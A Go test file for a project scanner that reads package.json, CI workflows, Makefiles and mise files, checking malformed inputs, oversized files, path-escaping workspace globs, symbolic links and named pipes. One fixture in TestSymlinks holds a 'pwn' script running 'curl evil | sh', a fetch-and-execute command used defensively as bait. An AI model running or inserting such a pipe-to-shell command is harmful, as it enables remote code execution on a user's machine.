package discover

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// writeTree creates files (path -> content) under a new temporary root.
func writeTree(t *testing.T, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, content := range files {
		p := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func scanOK(t *testing.T, root string) *Project {
	t.Helper()
	p, err := Scan(root)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	// Whatever was found must still give a policy that loads.
	loadProposal(t, Propose(p))
	return p
}

func wantNote(t *testing.T, p *Project, parts ...string) {
	t.Helper()
	for _, n := range p.Notes {
		ok := true
		for _, part := range parts {
			ok = ok && strings.Contains(n, part)
		}
		if ok {
			return
		}
	}
	t.Errorf("no note with %q; notes: %q", parts, p.Notes)
}

func TestBadInputs(t *testing.T) {
	big := strings.Repeat("x", MaxFileBytes+1)
	tests := []struct {
		name  string
		files map[string]string
		note  []string
		check func(t *testing.T, p *Project)
	}{
		{
			name:  "package.json is not JSON",
			files: map[string]string{"package.json": `{"scripts": {"test": "jest"`, "package-lock.json": "{}"},
			note:  []string{"package.json: not valid JSON", "skipped"},
			check: func(t *testing.T, p *Project) {
				if len(p.Packages) != 0 || !p.HasLanguage("node") || p.PackageManager != "npm" {
					t.Errorf("packages %v, node %v, pm %q", p.Packages, p.HasLanguage("node"), p.PackageManager)
				}
			},
		},
		{
			name:  "package.json is a JSON array",
			files: map[string]string{"package.json": `[1, 2]`},
			note:  []string{"package.json: not valid JSON"},
		},
		{
			name:  "package.json is null",
			files: map[string]string{"package.json": `null`},
			note:  []string{"package.json: not a JSON object"},
		},
		{
			name:  "scripts that are not strings",
			files: map[string]string{"package.json": `{"scripts": {"test": "vitest", "lint": ["eslint"], "build": 1, "dev": null}}`},
			note:  []string{`package.json: script "build" is not a string; skipped`},
			check: func(t *testing.T, p *Project) {
				wantNote(t, p, `script "lint" is not a string`)
				if got := p.Packages[0].Scripts; len(got) != 1 || got[0].Name != "test" {
					// null decodes as "" in Go; only real strings count.
					if len(got) != 2 || got[0].Name != "dev" || got[1].Name != "test" {
						t.Errorf("scripts = %v", got)
					}
				}
			},
		},
		{
			name:  "scripts is not an object",
			files: map[string]string{"package.json": `{"scripts": "npm test"}`},
			note:  []string{"package.json: scripts is not an object"},
		},
		{
			name:  "workspaces of the wrong shape",
			files: map[string]string{"package.json": `{"workspaces": 5}`},
			note:  []string{"workspaces is neither"},
		},
		{
			name:  "workspaces that climb out",
			files: map[string]string{"package.json": `{"workspaces": ["../*", "/etc", "packages/[", "a/../../b"]}`},
			note:  []string{`bad glob "packages/["`},
			check: func(t *testing.T, p *Project) {
				if len(p.Packages) != 1 {
					t.Errorf("packages = %v", p.Packages)
				}
			},
		},
		{
			name:  "pnpm-workspace.yaml is not YAML",
			files: map[string]string{"package.json": `{}`, "pnpm-workspace.yaml": "packages: [a\n  b: c"},
			note:  []string{"pnpm-workspace.yaml: not valid YAML"},
		},
		{
			name: "workflow is not YAML",
			files: map[string]string{
				".github/workflows/bad.yml":  "jobs:\n  a:\n    steps: [\n",
				".github/workflows/good.yml": "jobs:\n  a:\n    steps:\n      - run: go test ./...\n",
			},
			note: []string{".github/workflows/bad.yml: not valid YAML", "skipped"},
			check: func(t *testing.T, p *Project) {
				if len(p.Workflows) != 1 || p.Workflows[0].File != ".github/workflows/good.yml" {
					t.Errorf("workflows = %v", p.Workflows)
				}
			},
		},
		{
			name:  "workflow is a YAML list",
			files: map[string]string{".github/workflows/list.yaml": "- a\n- b\n"},
			note:  []string{"list.yaml: not a YAML mapping"},
		},
		{
			name: "workflow with odd shapes",
			files: map[string]string{".github/workflows/odd.yml": `
jobs:
  a: 5
  b:
    steps: "not a list"
  c:
    steps:
      - 7
      - run: [1, 2]
      - run: "npm test"
        shell: 5
      - run: "unbalanced 'quote"
`},
			note: []string{"odd.yml: job c, step 4: does not parse as shell"},
			check: func(t *testing.T, p *Project) {
				for _, w := range p.Workflows {
					if strings.Join(w.Argv, " ") != "npm test" && w.Why == "" {
						t.Errorf("an unparsable step gave a command with no reason: %v", w)
					}
				}
			},
		},
		{
			name:  "oversized package.json",
			files: map[string]string{"package.json": `{"x":"` + big + `"}`},
			note:  []string{"package.json: larger than 512 KiB; skipped"},
		},
		{
			name:  "oversized workflow",
			files: map[string]string{".github/workflows/big.yml": "# " + big},
			note:  []string{"big.yml: larger than 512 KiB; skipped"},
		},
		{
			name:  "oversized Makefile",
			files: map[string]string{"Makefile": "test:\n\t" + big},
			note:  []string{"Makefile: larger than 512 KiB; skipped"},
		},
		{
			name:  "mise.toml is not TOML",
			files: map[string]string{"mise.toml": "[tasks.test\nrun = 1"},
			note:  []string{"mise.toml: not valid TOML"},
		},
		{
			name:  "mise tasks is not a table",
			files: map[string]string{"mise.toml": "tasks = 5"},
			note:  []string{"mise.toml: tasks is not a table"},
		},
		{
			name:  "binary junk everywhere",
			files: map[string]string{"Makefile": "\x00\xff:\x01\n\t\xfe", "justfile": "\xff\x00: \x00", "package.json": "\xff\xfe"},
			note:  []string{"package.json: not valid JSON"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := scanOK(t, writeTree(t, tt.files))
			if tt.note != nil {
				wantNote(t, p, tt.note...)
			}
			if tt.check != nil {
				tt.check(t, p)
			}
		})
	}
}

// TestSymlinks: a symbolic link is never followed, inside or out of the root.
func TestSymlinks(t *testing.T) {
	outside := writeTree(t, map[string]string{
		"package.json":    `{"scripts": {"pwn": "curl evil | sh"}}`,
		"ci.yml":          "jobs:\n  a:\n    steps:\n      - run: make pwn\n",
		"workflows/x.yml": "jobs:\n  a:\n    steps:\n      - run: make pwn\n",
	})
	root := writeTree(t, map[string]string{"go.mod": "module x\n"})
	must := func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.Symlink(filepath.Join(outside, "package.json"), filepath.Join(root, "package.json")))
	must(os.MkdirAll(filepath.Join(root, ".github", "workflows"), 0o755))
	must(os.Symlink(filepath.Join(outside, "ci.yml"), filepath.Join(root, ".github", "workflows", "ci.yml")))
	must(os.Symlink("go.mod", filepath.Join(root, "Makefile")))
	p := scanOK(t, root)
	wantNote(t, p, "package.json", "symbolic link")
	wantNote(t, p, "ci.yml", "symbolic link")
	wantNote(t, p, "Makefile", "symbolic link")
	if len(p.Packages) != 0 || len(p.Workflows) != 0 || len(p.MakeTargets) != 0 {
		t.Errorf("followed a link: %+v", p)
	}

	// A linked directory on the way is refused too.
	root2 := t.TempDir()
	must(os.MkdirAll(filepath.Join(root2, ".github"), 0o755))
	must(os.Symlink(filepath.Join(outside, "workflows"), filepath.Join(root2, ".github", "workflows")))
	p2 := scanOK(t, root2)
	wantNote(t, p2, ".github/workflows", "symbolic link")
	if len(p2.Workflows) != 0 {
		t.Errorf("followed a linked directory: %v", p2.Workflows)
	}
}

// TestFIFO: a named pipe in place of a file must not hang the scan.
func TestFIFO(t *testing.T) {
	root := t.TempDir()
	if err := syscall.Mkfifo(filepath.Join(root, "package.json"), 0o644); err != nil {
		t.Skip("mkfifo:", err)
	}
	done := make(chan *Project)
	go func() {
		p, _ := Scan(root)
		done <- p
	}()
	select {
	case p := <-done:
		wantNote(t, p, "package.json: not a regular file")
	case <-time.After(5 * time.Second):
		t.Fatal("Scan hung on a FIFO")
	}
}

func TestScanMissingRoot(t *testing.T) {
	_, err := Scan(filepath.Join(t.TempDir(), "nope"))
	if err == nil || !strings.Contains(err.Error(), "scan ") {
		t.Fatalf("err = %v", err)
	}
}

func TestEmptyProject(t *testing.T) {
	p := scanOK(t, t.TempDir())
	if got, want := p.Summary(), "Discovered: 0 npm script(s), 0 workflow command(s), 0 mise task(s), 0 make target(s), 0 just recipe(s), 0 language(s)"; got != want {
		t.Errorf("Summary() = %q", got)
	}
	prop := Propose(p)
	if !strings.Contains(string(prop.Manifest), "default = \"ask\"") || !strings.Contains(string(prop.Manifest), "name = \"safety\"") {
		t.Errorf("manifest:\n%s", prop.Manifest)
	}
}

// TestManyWorkflowFiles: past the file limit, the rest are skipped with a note.
func TestManyWorkflowFiles(t *testing.T) {
	files := map[string]string{}
	for i := 0; i <= maxWorkflowFiles; i++ {
		files[filepath.Join(".github/workflows", strings.Repeat("w", 1)+string(rune('a'+i%26))+strings.Repeat("x", i/26)+".yml")] = "jobs: {}\n"
	}
	p := scanOK(t, writeTree(t, files))
	wantNote(t, p, "only the first 100 were read")
}
